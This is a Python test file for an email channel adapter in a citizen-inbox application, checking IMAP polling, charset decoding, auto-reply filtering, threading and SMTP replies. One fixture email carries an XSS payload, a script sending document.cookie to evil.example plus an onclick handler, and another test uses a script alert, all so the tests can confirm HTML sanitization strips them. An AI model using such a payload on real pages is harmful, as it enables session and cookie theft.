"""E-mail against real servers on loopback: dovecot for IMAP, aiosmtpd for SMTP."""

from email.message import EmailMessage

import pytest

from inbox.channels.adapters import get_adapter
from inbox.extensions import db
from tests.channels.polltools import (
    conversations,
    editor_replies,
    fresh,
    inbound,
    poll,
    poll_in_new_process,
    raw_events,
)
from tests.mailservers import PASSWORD, USER, dovecot, smtp_server  # noqa: F401  (fixtures)

LATIN1_MAIL = (
    b"From: =?utf-8?b?SsO8cmdlbiBNw7xsbGVy?= <juergen.mueller@example.net>\r\n"
    b"To: buergerpost@stadt.example\r\n"
    b"Subject: =?iso-8859-1?q?Stra=DFenlaterne_defekt?=\r\n"
    b"Date: Mon, 02 Mar 2026 10:15:00 +0100\r\n"
    b"Message-ID: <laterne-1@example.net>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="outer"\r\n'
    b"\r\n"
    b"--outer\r\n"
    b'Content-Type: multipart/alternative; boundary="alt"\r\n'
    b"\r\n"
    b"--alt\r\n"
    b"Content-Type: text/plain; charset=iso-8859-1\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b"Die Laterne in der Gr=FCnstra=DFe 5 ist seit Tagen aus.\r\n"
    b"--alt\r\n"
    b"Content-Type: text/html; charset=iso-8859-1\r\n"
    b"\r\n"
    b"<p onclick=\"steal()\">Die Laterne in der Gr\xfcnstra\xdfe 5 ist aus.</p>"
    b"<script>document.location='https://evil.example/'+document.cookie</script>\r\n"
    b"--alt--\r\n"
    b"--outer\r\n"
    b'Content-Type: application/pdf; name="foto.pdf"\r\n'
    b'Content-Disposition: attachment; filename="foto.pdf"\r\n'
    b"Content-Transfer-Encoding: base64\r\n"
    b"\r\n"
    b"JVBERi0xLjQKJcOkw7zDtsOfCjEgMCBvYmoK\r\n"
    b"--outer--\r\n"
)


def mail(message_id, *, subject="Frage zum Parkausweis", text="Wie beantrage ich einen Parkausweis?",
         sender="Karin Vogel <k.vogel@example.net>", headers=None) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "buergerpost@stadt.example"
    msg["Subject"] = subject
    msg["Date"] = "Tue, 03 Mar 2026 08:00:00 +0100"
    msg["Message-ID"] = message_id
    for key, value in (headers or {}).items():
        msg[key] = value
    msg.set_content(text)
    return bytes(msg)


@pytest.fixture
def channel(create_org, create_channel, dovecot, smtp_server):  # noqa: F811
    return create_channel(create_org(), "email", name="Bürgerpost",
                          settings={**dovecot.settings(), **smtp_server.settings(),
                                    "address": "buergerpost@stadt.example"},
                          credentials={"imap_user": USER, "imap_password": PASSWORD})


def test_iso_8859_1_mail_with_html_and_attachment_is_parsed_and_sanitized(channel, dovecot):  # noqa: F811
    dovecot.append(LATIN1_MAIL)
    poll(channel)
    message = inbound(channel)[0]
    conversation = conversations(channel)[0]
    assert message.external_id == "<laterne-1@example.net>"
    assert message.text == "Die Laterne in der Grünstraße 5 ist seit Tagen aus."
    assert conversation.subject == "Straßenlaterne defekt"
    assert conversation.contact.name == "Jürgen Müller"
    assert conversation.contact.email == "juergen.mueller@example.net"
    assert "Grünstraße" in message.html
    assert "<script" not in message.html and "evil.example" not in message.html and "onclick" not in message.html
    assert message.attachments == [{"name": "foto.pdf", "type": "application/pdf", "size": 27}]
    assert message.sent_at.isoformat() == "2026-03-02T09:15:00+00:00"


def test_html_only_mail_gets_its_text_from_the_sanitized_html(channel):
    msg = EmailMessage()
    msg["From"], msg["Subject"], msg["Message-ID"] = "a@example.net", "Nur HTML", "<html-only@example.net>"
    msg.set_content("<p>Zeile 1<br>Zeile 2</p><script>alert(1)</script>", subtype="html")
    result = get_adapter("email").parse(channel, bytes(msg), "message/rfc822")
    assert result.messages[0].text == "Zeile 1\nZeile 2"
    assert "script" not in result.messages[0].html


@pytest.mark.parametrize("headers", [
    {"Auto-Submitted": "auto-replied"},
    {"Precedence": "bulk"},
    {"Precedence": "junk"},
    {"X-Autoreply": "yes"},
])
def test_auto_replies_and_bulk_mail_are_ignored(channel, headers):
    raw = mail("<auto@example.net>", subject="Abwesenheitsnotiz", headers=headers)
    assert get_adapter("email").parse(channel, raw, "message/rfc822").empty


def test_bounce_is_ignored(channel):
    raw = mail("<bounce@example.net>", sender="MAILER-DAEMON@mx.example.net", subject="Undelivered Mail")
    assert get_adapter("email").parse(channel, raw, "message/rfc822").empty


def test_nothing_is_read_twice_and_polling_resumes_after_a_restart(channel, dovecot, app):  # noqa: F811
    dovecot.append(mail("<m1@example.net>"))
    poll(channel)
    poll(channel)
    assert len(raw_events(channel)) == 1
    assert fresh(channel).cursor == {"uidvalidity": dovecot.uidvalidity(), "last_uid": 1}
    dovecot.append(mail("<m2@example.net>", subject="Noch eine Frage"))
    poll_in_new_process(app, channel.id)
    assert [m.external_id for m in inbound(channel)] == ["<m1@example.net>", "<m2@example.net>"]
    assert len(raw_events(channel)) == 2 and fresh(channel).cursor["last_uid"] == 2


def test_changed_uidvalidity_resyncs_without_duplicates(create_org, create_channel, dovecot, smtp_server):  # noqa: F811
    dovecot.recreate("Buergeranfragen")
    channel = create_channel(create_org(), "email", settings={**dovecot.settings("Buergeranfragen"),
                                                              **smtp_server.settings()},
                             credentials={"imap_user": USER, "imap_password": PASSWORD})
    dovecot.append(mail("<v1@example.net>"), "Buergeranfragen")
    poll(channel)
    old_validity = fresh(channel).cursor["uidvalidity"]
    dovecot.recreate("Buergeranfragen")
    dovecot.append(mail("<v1@example.net>"), "Buergeranfragen")
    dovecot.append(mail("<v2@example.net>", subject="Neu"), "Buergeranfragen")
    assert dovecot.uidvalidity("Buergeranfragen") != old_validity
    poll(channel)
    assert [m.external_id for m in inbound(channel)] == ["<v1@example.net>", "<v2@example.net>"]
    assert len(raw_events(channel)) == 2
    assert fresh(channel).cursor == {"uidvalidity": dovecot.uidvalidity("Buergeranfragen"), "last_uid": 2}


def test_reply_mail_joins_the_conversation_by_references(channel, dovecot):  # noqa: F811
    from inbox.conversations.models import Message

    dovecot.append(mail("<root@example.net>"))
    poll(channel)
    conversation = conversations(channel)[0]
    db.session.add(Message(organization_id=channel.organization_id, conversation_id=conversation.id,
                           channel_id=channel.id, direction="out", external_id="<antwort-1@stadt.example>",
                           text="Antwort"))
    db.session.commit()
    dovecot.append(mail("<follow@example.net>", subject="Re: Frage zum Parkausweis",
                        headers={"In-Reply-To": "<antwort-1@stadt.example>",
                                 "References": "<antwort-1@stadt.example>"}))
    poll(channel)
    assert len(conversations(channel)) == 1
    assert inbound(channel)[1].parent_external_id == "<antwort-1@stadt.example>"


def test_wrong_password_backs_off_with_a_visible_error(create_org, create_channel, dovecot):  # noqa: F811
    channel = create_channel(create_org(), "email", settings=dovecot.settings(),
                             credentials={"imap_user": USER, "imap_password": "falsch"})
    poll(channel)
    cursor = fresh(channel).cursor
    assert cursor["failures"] == 1 and "IMAP" in cursor["last_error"] and cursor["backoff_until"]
    assert "fehlgeschlagen" in get_adapter("email").test_connection(channel)


def test_end_to_end_reply_by_smtp_with_threading_headers(channel, dovecot, smtp_server, client, auth,  # noqa: F811
                                                        create_user):
    from inbox.orgs.models import Organization

    dovecot.append(LATIN1_MAIL)
    poll(channel)
    conversation = conversations(channel)[0]
    org = db.session.get(Organization, channel.organization_id)
    sent = editor_replies(client, auth, create_user, org, conversation, "Danke, wir schicken jemanden vorbei.")
    assert sent.delivery_state == "sent"
    received = smtp_server.messages[0]
    assert received["To"] == "juergen.mueller@example.net"
    assert received["Subject"] == "Re: Straßenlaterne defekt"
    assert received["In-Reply-To"] == "<laterne-1@example.net>"
    assert "<laterne-1@example.net>" in received["References"]
    assert received["Message-ID"] == sent.external_id
    assert received.get_content().strip() == "Danke, wir schicken jemanden vorbei."

    # Jürgen answers our reply: it lands in the same conversation, and our next reply references the whole chain.
    dovecot.append(mail("<laterne-2@example.net>", subject="Re: Straßenlaterne defekt", text="Danke!",
                        sender="juergen.mueller@example.net",
                        headers={"In-Reply-To": sent.external_id,
                                 "References": f"<laterne-1@example.net> {sent.external_id}"}))
    poll(channel)
    assert len(conversations(channel)) == 1
    client.post_form(f"/conversations/{conversation.id}/reply", {"text": "Gern geschehen."})
    second = smtp_server.messages[1]
    assert second["In-Reply-To"] == "<laterne-2@example.net>"
    assert second["References"].split() == ["<laterne-1@example.net>", sent.external_id, "<laterne-2@example.net>"]


def test_connection_check_reports_imap_and_smtp(channel):
    message = get_adapter("email").test_connection(channel)
    assert message.startswith("IMAP-Verbindung erfolgreich") and "SMTP-Verbindung erfolgreich" in message
